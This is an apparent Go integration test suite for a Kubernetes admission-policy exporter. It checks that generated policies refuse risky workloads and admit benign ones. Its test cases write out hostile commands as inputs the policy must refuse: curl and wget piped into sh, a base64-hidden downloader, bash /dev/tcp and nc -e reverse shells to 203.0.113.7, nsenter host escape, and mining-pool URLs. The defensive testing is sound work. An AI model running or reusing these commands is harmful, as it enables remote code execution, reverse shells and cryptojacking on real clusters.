package vap

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/retry"
	"sigs.k8s.io/yaml"

	"github.com/jobguard/jobguard/internal/config"
	"github.com/jobguard/jobguard/internal/finding"
	"github.com/jobguard/jobguard/internal/testcluster"
)

// The integration tests apply exported policies to a real kube-apiserver and check that it refuses
// what the export claims to cover, and admits clean workloads. The controller manager runs the
// policy status controller, whose type checking of the policy the tests read; Pods are created in
// namespaces that are seconds old, before the service-account controller has been there, so the
// ServiceAccount admission plugin is off.
func TestMain(m *testing.M) {
	testcluster.Main(m, testcluster.Options{
		ExtraAPIServerFlags: []string{"--disable-admission-plugins=ServiceAccount"},
		ControllerManager:   true,
		ExtraControllerManagerFlags: []string{"--controllers=" + strings.Join(append(slices.Clone(testcluster.DefaultControllers),
			"validatingadmissionpolicy-status-controller"), ",")},
	})
}

// testLabel selects the namespaces a test binding applies to, so bindings of different tests
// never judge each other's objects.
const testLabel = "jobguard.io/vap-test"

const cleanImage = "registry.example.com/app:1.0@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// integrationConfig is the config of the integration export: an allowed registry (so
// image-registry-not-allowed is exported) and exemptions to check.
func integrationConfig() *config.Config {
	return &config.Config{
		AllowedRegistries: []string{"registry.example.com"},
		Exemptions: config.Exemptions{
			Namespaces: []string{"vap-exempt-*"},
			Names:      []string{"*/exempt-*"},
			Images:     []string{"registry.example.com/trusted/*"},
		},
	}
}

// allKinds are the workload kinds the policy matches, each with its resource.
var allKinds = map[string]schema.GroupVersionResource{
	"CronJob":               {Group: "batch", Version: "v1", Resource: "cronjobs"},
	"Job":                   {Group: "batch", Version: "v1", Resource: "jobs"},
	"Deployment":            {Group: "apps", Version: "v1", Resource: "deployments"},
	"DaemonSet":             {Group: "apps", Version: "v1", Resource: "daemonsets"},
	"StatefulSet":           {Group: "apps", Version: "v1", Resource: "statefulsets"},
	"ReplicaSet":            {Group: "apps", Version: "v1", Resource: "replicasets"},
	"ReplicationController": {Group: "", Version: "v1", Resource: "replicationcontrollers"},
	"Pod":                   {Group: "", Version: "v1", Resource: "pods"},
	"PodTemplate":           {Group: "", Version: "v1", Resource: "podtemplates"},
}

func kindNames() []string {
	var out []string
	for k := range allKinds {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

var jobKinds = []string{"CronJob", "Job"}

// variant is one object of a case: a pod spec (YAML), extra Job and CronJob spec fields (YAML),
// and the kinds it is tried as (nil: every kind).
type variant struct {
	name    string
	podSpec string
	job     string
	cron    string
	kinds   []string
	// objName overrides the object's name.
	objName string
}

// vapCase says, for one exported check, which objects the policy must refuse and which benign
// look-alikes it must admit.
type vapCase struct {
	refused  []variant
	admitted []variant
}

func container(extra string) string {
	return "containers:\n- name: app\n  image: " + cleanImage + "\n" + indent(extra, 2)
}

func shC(script string) string {
	js, _ := json.Marshal(script)
	return container("command: [\"/bin/sh\", \"-c\", " + string(js) + "]")
}

func indent(s string, n int) string {
	if s == "" {
		return ""
	}
	pad := strings.Repeat(" ", n)
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = pad + l
	}
	return strings.Join(lines, "\n") + "\n"
}

func hostPathSpec(path, mount string) string {
	return container("volumeMounts:\n- {name: h, mountPath: /h"+mount+"}") + "volumes:\n- name: h\n  hostPath: {path: " + path + "}\n"
}

// vapCases has one entry per check the export can cover; TestIntegrationPolicy fails when a
// covered check has none, so a new check cannot be exported untested.
var vapCases = map[string]vapCase{
	"exec-decode-execute": {
		refused:  []variant{{name: "base64 into sh", podSpec: shC("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh")}},
		admitted: []variant{{name: "decode to a file", podSpec: shC("base64 -d /in/blob > /out/blob")}},
	},
	"exec-download-execute": {
		refused: []variant{
			{name: "curl into sh", podSpec: shC("curl -fsSL http://203.0.113.7/i.sh | sh")},
			{name: "wget in args", podSpec: container("args: [\"sh\", \"-c\", \"wget -qO- http://x.example/a | bash\"]")},
			{name: "postStart hook", podSpec: container("lifecycle:\n  postStart:\n    exec:\n      command: [\"sh\", \"-c\", \"curl -s http://203.0.113.7/k | sh\"]"), kinds: []string{"Deployment", "Pod"}},
		},
		admitted: []variant{{name: "curl into sha256sum", podSpec: shC("curl -fsS http://files.example/x.tgz | sha256sum")}},
	},
	"exec-host-escape": {
		refused:  []variant{{name: "nsenter -t 1", podSpec: container("command: [\"nsenter\", \"-t\", \"1\", \"-m\", \"-u\", \"-i\", \"-n\", \"sh\"]")}},
		admitted: []variant{{name: "nsenter into another pid", podSpec: container("command: [\"nsenter\", \"-t\", \"1234\", \"-n\", \"ip\", \"a\"]")}},
	},
	"exec-miner": {
		refused: []variant{
			{name: "pool url in args", podSpec: container("command: [\"/opt/kworker\"]\nargs: [\"-o\", \"stratum+tcp://pool.example.net:3333\"]")},
			{name: "pool url in env", podSpec: container("env:\n- {name: POOL, value: \"stratum+ssl://pool.example.net:14444\"}"), kinds: []string{"CronJob", "DaemonSet"}},
		},
		admitted: []variant{{name: "redis on 3333", podSpec: container("command: [\"redis-server\", \"--port\", \"3333\"]")}},
	},
	"exec-reverse-shell": {
		refused: []variant{
			{name: "bash -i /dev/tcp", podSpec: shC("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")},
			{name: "nc -e", podSpec: container("command: [\"nc\", \"203.0.113.7\", \"4444\", \"-e\", \"/bin/sh\"]"), kinds: []string{"Job", "Pod"}},
		},
		admitted: []variant{
			{name: "wait for a port", podSpec: shC("until </dev/tcp/db/5432; do sleep 1; done")},
			{name: "nc -z", podSpec: shC("nc -z db.shop.svc 5432")},
		},
	},
	"host-capabilities/high": {
		refused: []variant{
			{name: "SYS_ADMIN", podSpec: container("securityContext:\n  capabilities: {add: [SYS_ADMIN]}")},
			{name: "cap_sys_module spelled low", podSpec: container("securityContext:\n  capabilities: {add: [cap_sys_module]}"), kinds: []string{"CronJob", "Pod"}},
			{name: "SYS_PTRACE with hostPID", podSpec: "hostPID: true\n" + container("securityContext:\n  capabilities: {add: [SYS_PTRACE]}"), kinds: []string{"DaemonSet"}},
		},
		admitted: []variant{{name: "NET_BIND_SERVICE", podSpec: container("securityContext:\n  capabilities: {add: [NET_BIND_SERVICE], drop: [ALL]}")}},
	},
	"host-capabilities/medium": {
		refused: []variant{{name: "NET_ADMIN", podSpec: container("securityContext:\n  capabilities: {add: [NET_ADMIN]}")}},
	},
	"host-namespaces/hostPID": {
		refused: []variant{{name: "hostPID", podSpec: "hostPID: true\n" + container("")}},
	},
	"host-namespaces/hostIPC": {
		refused: []variant{{name: "hostIPC", podSpec: "hostIPC: true\n" + container("")}},
	},
	"host-namespaces/hostNetwork": {
		refused: []variant{{name: "hostNetwork", podSpec: "hostNetwork: true\n" + container("")}},
	},
	"host-path/sensitive": {
		refused: []variant{
			{name: "docker socket", podSpec: hostPathSpec("/var/run/docker.sock", "")},
			{name: "root", podSpec: hostPathSpec("/", "")},
			{name: "kubelet with trailing slash", podSpec: hostPathSpec("/var/lib/kubelet/", ""), kinds: []string{"CronJob", "DaemonSet"}},
			{name: "not in normal form", podSpec: hostPathSpec("//etc/kubernetes", ""), kinds: []string{"Job", "Pod"}},
			{name: "relative var", podSpec: hostPathSpec("var", ""), kinds: []string{"Deployment"}},
			{name: "etc read-write", podSpec: hostPathSpec("/etc/cron.d", ""), kinds: []string{"DaemonSet", "CronJob"}},
			{name: "socket by subPath", podSpec: container("volumeMounts:\n- {name: h, mountPath: /s, subPath: agent.sock}") + "volumes:\n- name: h\n  hostPath: {path: /opt/agent}\n", kinds: []string{"Pod"}},
		},
	},
	"host-path/mounted": {
		refused: []variant{{name: "data read-only", podSpec: hostPathSpec("/data", ", readOnly: true")}},
	},
	"host-path/unmounted": {
		refused: []variant{{name: "declared only", podSpec: container("") + "volumes:\n- name: h\n  hostPath: {path: /data}\n"}},
	},
	"host-privileged": {
		refused: []variant{
			{name: "privileged", podSpec: container("securityContext: {privileged: true}")},
			{name: "privileged init container", podSpec: container("") + "initContainers:\n- name: init\n  image: " + cleanImage + "\n  securityContext: {privileged: true}\n"},
		},
		admitted: []variant{{name: "privileged false", podSpec: container("securityContext: {privileged: false}")}},
	},
	"job-history-disabled": {
		refused:  []variant{{name: "both limits 0", podSpec: container(""), cron: "successfulJobsHistoryLimit: 0\nfailedJobsHistoryLimit: 0", kinds: []string{"CronJob"}}},
		admitted: []variant{{name: "failures kept", podSpec: container(""), cron: "successfulJobsHistoryLimit: 0\nfailedJobsHistoryLimit: 1", kinds: []string{"CronJob"}}},
	},
	"job-suspended": {
		refused: []variant{
			{name: "suspended CronJob", podSpec: container(""), cron: "suspend: true", kinds: []string{"CronJob"}},
			{name: "suspended Job", podSpec: container(""), job: "suspend: true", kinds: jobKinds},
		},
	},
	"job-ttl-immediate": {
		refused:  []variant{{name: "ttl 0", podSpec: container(""), job: "ttlSecondsAfterFinished: 0", kinds: jobKinds}},
		admitted: []variant{{name: "ttl an hour", podSpec: container(""), job: "ttlSecondsAfterFinished: 3600", kinds: jobKinds}},
	},
	"disguise-control-plane-node": {
		refused: []variant{
			{name: "nodeName in a template", podSpec: "nodeName: node-1\n" + container(""), kinds: []string{"CronJob", "Deployment", "DaemonSet"}},
			{name: "control-plane nodeSelector", podSpec: "nodeSelector: {node-role.kubernetes.io/control-plane: \"\"}\n" + container("")},
			{name: "control-plane affinity", podSpec: "affinity:\n  nodeAffinity:\n    requiredDuringSchedulingIgnoredDuringExecution:\n      nodeSelectorTerms:\n      - matchExpressions:\n        - {key: node-role.kubernetes.io/control-plane, operator: Exists}\n" + container(""), kinds: []string{"Job"}},
		},
		admitted: []variant{{name: "nodeName on a Pod", podSpec: "nodeName: node-1\n" + container(""), kinds: []string{"Pod"}}},
	},
	"disguise-control-plane-toleration": {
		refused: []variant{
			{name: "tolerates everything", podSpec: "tolerations:\n- {operator: Exists}\n" + container("")},
			{name: "control-plane taint", podSpec: "tolerations:\n- {key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}\n" + container(""), kinds: []string{"DaemonSet"}},
		},
		admitted: []variant{{name: "a gpu taint", podSpec: "tolerations:\n- {key: nvidia.com/gpu, operator: Exists, effect: NoSchedule}\n" + container("")}},
	},
	"image-latest-tag": {
		refused: []variant{
			{name: "no tag", podSpec: strings.Replace(container(""), cleanImage, "registry.example.com/app", 1)},
			{name: "latest", podSpec: strings.Replace(container(""), cleanImage, "registry.example.com:5000/app:latest", 1), kinds: []string{"Job"}},
		},
	},
	"image-not-pinned": {
		refused: []variant{{name: "tag only", podSpec: strings.Replace(container(""), cleanImage, "registry.example.com/app:1.0", 1)}},
	},
	"image-registry-not-allowed": {
		refused: []variant{
			{name: "docker hub", podSpec: strings.Replace(container(""), cleanImage, "nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", 1)},
			{name: "look-alike host", podSpec: strings.Replace(container(""), cleanImage, "registry.example.com.evil.io/app:1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", 1), kinds: []string{"CronJob"}},
		},
	},
}

// workloadObject wraps a pod spec (YAML) into an object of kind.
func workloadObject(t *testing.T, kind, name string, v variant) *unstructured.Unstructured {
	t.Helper()
	spec := map[string]any{}
	if err := yaml.Unmarshal([]byte(v.podSpec), &spec); err != nil {
		t.Fatalf("bad pod spec of %q: %v", v.name, err)
	}
	parse := func(s string) map[string]any {
		m := map[string]any{}
		if err := yaml.Unmarshal([]byte(s), &m); err != nil {
			t.Fatalf("bad extra fields of %q: %v", v.name, err)
		}
		return m
	}
	labels := map[string]any{"app": name}
	template := func() map[string]any {
		return map[string]any{"metadata": map[string]any{"labels": labels}, "spec": spec}
	}
	selector := map[string]any{"matchLabels": labels}
	var body map[string]any
	switch kind {
	case "Pod":
		body = map[string]any{"spec": spec}
	case "PodTemplate":
		body = map[string]any{"template": template()}
	case "Job", "CronJob":
		if _, ok := spec["restartPolicy"]; !ok {
			spec["restartPolicy"] = "Never"
		}
		job := parse(v.job)
		job["template"] = template()
		if kind == "Job" {
			body = map[string]any{"spec": job}
			break
		}
		cron := parse(v.cron)
		cron["schedule"] = "0 3 * * *"
		cron["jobTemplate"] = map[string]any{"spec": job}
		body = map[string]any{"spec": cron}
	case "ReplicationController":
		body = map[string]any{"spec": map[string]any{"selector": labels, "template": template()}}
	case "StatefulSet":
		body = map[string]any{"spec": map[string]any{"selector": selector, "serviceName": name, "template": template()}}
	default:
		body = map[string]any{"spec": map[string]any{"selector": selector, "template": template()}}
	}
	gvr := allKinds[kind]
	body["apiVersion"] = schema.GroupVersion{Group: gvr.Group, Version: gvr.Version}.String()
	body["kind"] = kind
	body["metadata"] = map[string]any{"name": name}
	return &unstructured.Unstructured{Object: body}
}

// env is a policy applied to the shared cluster.
type env struct {
	cluster *testcluster.Cluster
	client  kubernetes.Interface
	dyn     dynamic.Interface
	export  *Export
}

// apply creates the export's policy and a binding restricted to namespaces labelled
// testLabel=selector, and waits until the policy type-checks and judges requests.
func apply(t *testing.T, c *testcluster.Cluster, e *Export, selector string, cleanup bool) *env {
	t.Helper()
	ctx := context.Background()
	client := kubernetes.NewForConfigOrDie(c.AdminConfig())
	ev := &env{cluster: c, client: client, dyn: dynamic.NewForConfigOrDie(c.AdminConfig()), export: e}
	if _, err := client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Create(ctx, e.Policy, metav1.CreateOptions{}); err != nil {
		t.Fatalf("the API server refused the exported policy: %v", err)
	}
	b := e.Binding.DeepCopy()
	if b.Spec.MatchResources == nil {
		b.Spec.MatchResources = &admissionregistrationv1.MatchResources{}
	}
	if b.Spec.MatchResources.NamespaceSelector == nil {
		b.Spec.MatchResources.NamespaceSelector = &metav1.LabelSelector{}
	}
	b.Spec.MatchResources.NamespaceSelector.MatchLabels = map[string]string{testLabel: selector}
	if _, err := client.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Create(ctx, b, metav1.CreateOptions{}); err != nil {
		t.Fatalf("the API server refused the exported binding: %v", err)
	}
	if cleanup {
		t.Cleanup(func() {
			_ = client.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Delete(context.Background(), b.Name, metav1.DeleteOptions{})
			_ = client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(context.Background(), e.Policy.Name, metav1.DeleteOptions{})
		})
	}
	// The type checker runs in the background and writes its verdict into the status.
	deadline := time.Now().Add(60 * time.Second)
	for {
		p, err := client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Get(ctx, e.Policy.Name, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if p.Status.TypeChecking != nil {
			for _, w := range p.Status.TypeChecking.ExpressionWarnings {
				t.Errorf("type checking: %s: %s", w.FieldRef, w.Warning)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the policy's status.typeChecking was not set within 60s")
		}
		time.Sleep(200 * time.Millisecond)
	}
	return ev
}

// namespace creates a namespace labelled for a binding (selector "" leaves it unlabelled).
func (ev *env) namespace(t *testing.T, prefix, selector string) string {
	t.Helper()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: prefix + "-" + rand.String(6)}}
	if selector != "" {
		ns.Labels = map[string]string{testLabel: selector}
	}
	if _, err := ev.client.CoreV1().Namespaces().Create(context.Background(), ns, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	return ns.Name
}

// create creates obj in ns (dry-run unless real) and returns the API server's error.
func (ev *env) create(ns string, obj *unstructured.Unstructured, real bool) error {
	opts := metav1.CreateOptions{}
	if !real {
		opts.DryRun = []string{metav1.DryRunAll}
	}
	gvr := allKinds[obj.GetKind()]
	_, err := ev.dyn.Resource(gvr).Namespace(ns).Create(context.Background(), obj, opts)
	return err
}

// waitEffective polls a dry-run create of a privileged Pod in ns until the policy refuses it:
// bindings and namespace labels take a moment to reach the admission plugin.
func (ev *env) waitEffective(t *testing.T, ns string) {
	t.Helper()
	obj := workloadObject(t, "Pod", "probe", variant{name: "probe", podSpec: container("securityContext: {privileged: true}")})
	deadline := time.Now().Add(60 * time.Second)
	for {
		err := ev.create(ns, obj, false)
		if err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+ev.export.Policy.Name+"'") {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the policy did not take effect in namespace %s within 60s (last answer: %v)", ns, err)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

// refusedBy asserts err is the policy's denial by rule (messageExpression "rule: ...").
func refusedBy(t *testing.T, err error, policy, rule, what string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s was admitted; want it refused by %s", what, rule)
		return
	}
	msg := err.Error()
	t.Log(msg)
	if !apierrors.IsForbidden(err) {
		t.Errorf("%s: got %v (reason %s), want Forbidden", what, err, apierrors.ReasonForError(err))
	}
	if !strings.Contains(msg, "ValidatingAdmissionPolicy '"+policy+"'") || !strings.Contains(msg, rule+": ") {
		t.Errorf("%s: refused with %q; want the policy %s and the rule %s in the message", what, msg, policy, rule)
	}
}

// sharedDeny is the deny policy of the integration test, applied once.
var sharedDeny struct {
	once sync.Once
	env  *env
	ns   string
}

func denyEnv(t *testing.T) (*env, string) {
	t.Helper()
	c := testcluster.Shared(t)
	sharedDeny.once.Do(func() {
		e, err := Build(Options{Config: integrationConfig(), MinSeverity: finding.SeverityInfo, Version: "test",
			Name: "jobguard-deny", ExcludeNamespaces: []string{"vap-excluded"}})
		if err != nil {
			t.Fatal(err)
		}
		ev := apply(t, c, e, "deny", false)
		ns := ev.namespace(t, "vap-deny", "deny")
		ev.waitEffective(t, ns)
		sharedDeny.env, sharedDeny.ns = ev, ns
	})
	if sharedDeny.env == nil {
		t.Fatal("the shared deny policy could not be applied (see the first test that used it)")
	}
	return sharedDeny.env, sharedDeny.ns
}

func TestIntegrationPolicyRefusesWhatItCovers(t *testing.T) {
	ev, ns := denyEnv(t)
	policy := ev.export.Policy.Name
	// Every check the export covers must have a case, and every case a covered check.
	covered := map[string]bool{}
	for _, c := range ev.export.Covered {
		covered[c.ID] = true
		if tc, ok := vapCases[c.ID]; !ok || len(tc.refused) == 0 {
			t.Errorf("the export covers %s but the integration test has no refused object for it", c.ID)
		}
	}
	for id := range vapCases {
		if !covered[id] {
			t.Errorf("the integration test has a case for %s, which the export does not cover", id)
		}
	}
	for _, c := range ev.export.Covered {
		tc := vapCases[c.ID]
		for _, v := range tc.refused {
			kinds := v.kinds
			if kinds == nil {
				kinds = kindNames()
			}
			for _, kind := range kinds {
				t.Run(c.ID+"/refused/"+v.name+"/"+kind, func(t *testing.T) {
					err := ev.create(ns, workloadObject(t, kind, "x", v), false)
					refusedBy(t, err, policy, c.Rule, kind+" "+v.name)
				})
			}
		}
		for _, v := range tc.admitted {
			kinds := v.kinds
			if kinds == nil {
				kinds = kindNames()
			}
			for _, kind := range kinds {
				t.Run(c.ID+"/admitted/"+v.name+"/"+kind, func(t *testing.T) {
					if err := ev.create(ns, workloadObject(t, kind, "x", v), false); err != nil {
						t.Errorf("benign %s %s was refused: %v", kind, v.name, err)
					}
				})
			}
		}
	}
}

func TestIntegrationCleanWorkloadsAreAdmitted(t *testing.T) {
	ev, ns := denyEnv(t)
	for _, kind := range kindNames() {
		t.Run(kind, func(t *testing.T) {
			v := variant{name: "clean", podSpec: container("securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}") +
				"initContainers:\n- name: init\n  image: " + cleanImage + "\n"}
			if err := ev.create(ns, workloadObject(t, kind, "clean-"+strings.ToLower(kind), v), true); err != nil {
				t.Fatalf("a clean %s was refused: %v", kind, err)
			}
		})
	}
}

// TestIntegrationCostOfLargeWorkloads makes sure a large, clean pod template stays within the API
// server's CEL cost budgets (an evaluation that runs out of budget fails the request), and that a
// violation in a large one is reported as the rule, not as a cost error.
func TestIntegrationCostOfLargeWorkloads(t *testing.T) {
	ev, ns := denyEnv(t)
	// Benign text that passes the exec checks' cheap substring tests, so their regular expressions run.
	script := strings.Repeat("until </dev/tcp/db/5432; do sleep 1; done; curl -fsS http://cfg.svc/s -o /tmp/s; "+
		"base64 /tmp/s > /tmp/s.b64; nc -z cache 6379 || eval true; ", 40)
	var b strings.Builder
	for i := range 20 {
		fmt.Fprintf(&b, "- name: c%d\n  image: %s\n  command: [\"/bin/sh\", \"-c\", %q]\n  args: [\"--verbose\", \"--retries=5\"]\n  env:\n", i, cleanImage, script)
		for j := range 60 {
			fmt.Fprintf(&b, "  - {name: VAR_%d, value: \"value number %d of a long environment, with some text in it\"}\n", j, j)
		}
		b.WriteString("  volumeMounts:\n")
		for j := range 15 {
			fmt.Fprintf(&b, "  - {name: cfg%d, mountPath: /cfg%d}\n", j, j)
		}
	}
	b.WriteString("volumes:\n")
	for j := range 15 {
		fmt.Fprintf(&b, "- name: cfg%d\n  configMap: {name: cfg%d}\n", j, j)
	}
	clean := "containers:\n" + b.String()
	for _, kind := range []string{"CronJob", "Deployment", "Pod"} {
		if err := ev.create(ns, workloadObject(t, kind, "large", variant{name: "large", podSpec: clean}), false); err != nil {
			t.Errorf("a large clean %s was refused: %v", kind, err)
		}
	}
	bad := strings.Replace(clean, "  args: [\"--verbose\"", "  securityContext: {privileged: true}\n  args: [\"--verbose\"", 1)
	refusedBy(t, ev.create(ns, workloadObject(t, "CronJob", "large", variant{name: "large", podSpec: bad}), false),
		ev.export.Policy.Name, "host-privileged", "a large privileged CronJob")
}

func TestIntegrationExemptionsAndExclusions(t *testing.T) {
	ev, ns := denyEnv(t)
	policy := ev.export.Policy.Name
	privileged := variant{name: "privileged", podSpec: container("securityContext: {privileged: true}")}
	t.Run("excluded namespace", func(t *testing.T) {
		// The binding's namespaceSelector leaves out --exclude-namespace; the test label is there too,
		// so only the exclusion can let the object in.
		exc := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "vap-excluded", Labels: map[string]string{testLabel: "deny"}}}
		if _, err := ev.client.CoreV1().Namespaces().Create(context.Background(), exc, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatal(err)
		}
		if err := ev.create("vap-excluded", workloadObject(t, "CronJob", "x", privileged), false); err != nil {
			t.Errorf("a privileged CronJob in the excluded namespace was refused: %v", err)
		}
	})
	t.Run("exempt namespace", func(t *testing.T) {
		exempt := ev.namespace(t, "vap-exempt", "deny")
		if err := ev.create(exempt, workloadObject(t, "Deployment", "x", privileged), false); err != nil {
			t.Errorf("a privileged Deployment in a namespace the config exempts was refused: %v", err)
		}
	})
	t.Run("exempt name", func(t *testing.T) {
		if err := ev.create(ns, workloadObject(t, "Job", "exempt-backup", privileged), false); err != nil {
			t.Errorf("a privileged Job with a name the config exempts was refused: %v", err)
		}
		refusedBy(t, ev.create(ns, workloadObject(t, "Job", "not-exempt", privileged), false), policy, "host-privileged", "a privileged Job")
	})
	t.Run("exempt image", func(t *testing.T) {
		trusted := strings.Replace(privileged.podSpec, "registry.example.com/app", "registry.example.com/trusted/agent", 1)
		if err := ev.create(ns, workloadObject(t, "DaemonSet", "x", variant{name: "trusted", podSpec: trusted}), false); err != nil {
			t.Errorf("a privileged container of an exempt image was refused: %v", err)
		}
		// Pod-level findings have no image: the exemption does not cover them.
		hostPID := "hostPID: true\n" + strings.Replace(container(""), "registry.example.com/app", "registry.example.com/trusted/agent", 1)
		refusedBy(t, ev.create(ns, workloadObject(t, "DaemonSet", "x", variant{name: "trusted hostPID", podSpec: hostPID}), false),
			policy, "host-namespaces", "hostPID with an exempt image")
	})
}

func TestIntegrationUpdates(t *testing.T) {
	ev, ns := denyEnv(t)
	policy := ev.export.Policy.Name
	ctx := context.Background()

	t.Run("an update that adds a violation is refused", func(t *testing.T) {
		obj := workloadObject(t, "Deployment", "grows", variant{name: "clean", podSpec: container("")})
		if err := ev.create(ns, obj, true); err != nil {
			t.Fatal(err)
		}
		yes := true
		err := updateDeployment(ev, ns, "grows", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &yes}
		})
		refusedBy(t, err, policy, "host-privileged", "an update to privileged")
	})

	t.Run("an existing violation: metadata updates pass, spec updates are judged", func(t *testing.T) {
		// Created before its namespace is selected by the binding, as a workload that predates the policy.
		old := ev.namespace(t, "vap-old", "")
		obj := workloadObject(t, "Deployment", "legacy", variant{name: "privileged", podSpec: container("securityContext: {privileged: true}")})
		if err := ev.create(old, obj, true); err != nil {
			t.Fatal(err)
		}
		n, err := ev.client.CoreV1().Namespaces().Get(ctx, old, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		n.Labels[testLabel] = "deny"
		if _, err := ev.client.CoreV1().Namespaces().Update(ctx, n, metav1.UpdateOptions{}); err != nil {
			t.Fatal(err)
		}
		ev.waitEffective(t, old)
		err = updateDeployment(ev, old, "legacy", func(d *appsv1.Deployment) { d.Labels = map[string]string{"team": "payments"} })
		if err != nil {
			t.Fatalf("a label update of a workload that predates the policy was refused: %v", err)
		}
		replicas := int32(2)
		err = updateDeployment(ev, old, "legacy", func(d *appsv1.Deployment) { d.Spec.Replicas = &replicas })
		refusedBy(t, err, policy, "host-privileged", "a spec update of a privileged Deployment")
	})

	t.Run("ephemeral containers are judged", func(t *testing.T) {
		obj := workloadObject(t, "Pod", "debug-me", variant{name: "clean", podSpec: container("")})
		if err := ev.create(ns, obj, true); err != nil {
			t.Fatal(err)
		}
		pod, err := ev.client.CoreV1().Pods(ns).Get(ctx, "debug-me", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		yes := true
		pod.Spec.EphemeralContainers = append(pod.Spec.EphemeralContainers, corev1.EphemeralContainer{
			EphemeralContainerCommon: corev1.EphemeralContainerCommon{
				Name: "debugger", Image: cleanImage, TerminationMessagePolicy: corev1.TerminationMessageReadFile,
				ImagePullPolicy: corev1.PullIfNotPresent, SecurityContext: &corev1.SecurityContext{Privileged: &yes},
			},
		})
		_, err = ev.client.CoreV1().Pods(ns).UpdateEphemeralContainers(ctx, "debug-me", pod, metav1.UpdateOptions{})
		refusedBy(t, err, policy, "host-privileged", "a privileged ephemeral container")
		if err != nil && !strings.Contains(err.Error(), `"debugger"`) {
			t.Errorf("the message does not name the ephemeral container: %v", err)
		}
	})
}

// updateDeployment changes a Deployment, retrying when a controller changed it in between.
func updateDeployment(ev *env, ns, name string, mutate func(*appsv1.Deployment)) error {
	return retry.RetryOnConflict(retry.DefaultRetry, func() error {
		d, err := ev.client.AppsV1().Deployments(ns).Get(context.Background(), name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		mutate(d)
		_, err = ev.client.AppsV1().Deployments(ns).Update(context.Background(), d, metav1.UpdateOptions{})
		return err
	})
}

// warningCollector keeps the API server's warnings.
type warningCollector struct {
	mu   sync.Mutex
	msgs []string
}

func (w *warningCollector) HandleWarningHeader(_ int, _ string, text string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.msgs = append(w.msgs, text)
}

func TestIntegrationWarnAndAudit(t *testing.T) {
	c := testcluster.Shared(t)
	privileged := variant{name: "privileged", podSpec: container("securityContext: {privileged: true}")}
	for _, action := range []Action{ActionWarn, ActionAudit} {
		t.Run(string(action), func(t *testing.T) {
			name := "jobguard-" + string(action)
			e, err := Build(Options{Config: integrationConfig(), Action: action, Version: "test", Name: name})
			if err != nil {
				t.Fatal(err)
			}
			ev := apply(t, c, e, string(action), true)
			ns := ev.namespace(t, "vap-"+string(action), string(action))
			warnings := &warningCollector{}
			cfg := rest.CopyConfig(c.AdminConfig())
			cfg.WarningHandler = warnings
			ev.dyn = dynamic.NewForConfigOrDie(cfg)
			// Objects are admitted in both modes; poll until the binding has taken effect and the
			// failure shows: as a warning, or in the audit event of the create.
			deadline := time.Now().Add(60 * time.Second)
			for {
				obj := workloadObject(t, "CronJob", "x-"+rand.String(6), privileged)
				warnings.mu.Lock()
				warnings.msgs = nil
				warnings.mu.Unlock()
				if err := ev.create(ns, obj, true); err != nil {
					t.Fatalf("%s mode refused the object: %v", action, err)
				}
				if action == ActionWarn && slices.ContainsFunc(warnings.msgs, func(w string) bool { return strings.Contains(w, "host-privileged: ") }) {
					return
				}
				if action == ActionAudit && auditFailureRecorded(t, c.AuditLogPath(), obj.GetName(), name) {
					return
				}
				if time.Now().After(deadline) {
					t.Fatalf("after 60s, %s mode still shows no failed validation (warnings: %q)", action, warnings.msgs)
				}
				time.Sleep(250 * time.Millisecond)
			}
		})
	}
}

// auditFailureRecorded reports whether the audit log has the create of object name with the
// policy's validation failure annotation (written when the event is, so it is there already).
func auditFailureRecorded(t *testing.T, path, name, policy string) bool {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(data), "\n") {
		if strings.Contains(l, `"name":"`+name+`"`) && strings.Contains(l, "validation.policy.admission.k8s.io/validation_failure") &&
			strings.Contains(l, policy) && strings.Contains(l, `"verb":"create"`) {
			return true
		}
	}
	return false
}

func TestIntegrationDefaultExportIsAccepted(t *testing.T) {
	c := testcluster.Shared(t)
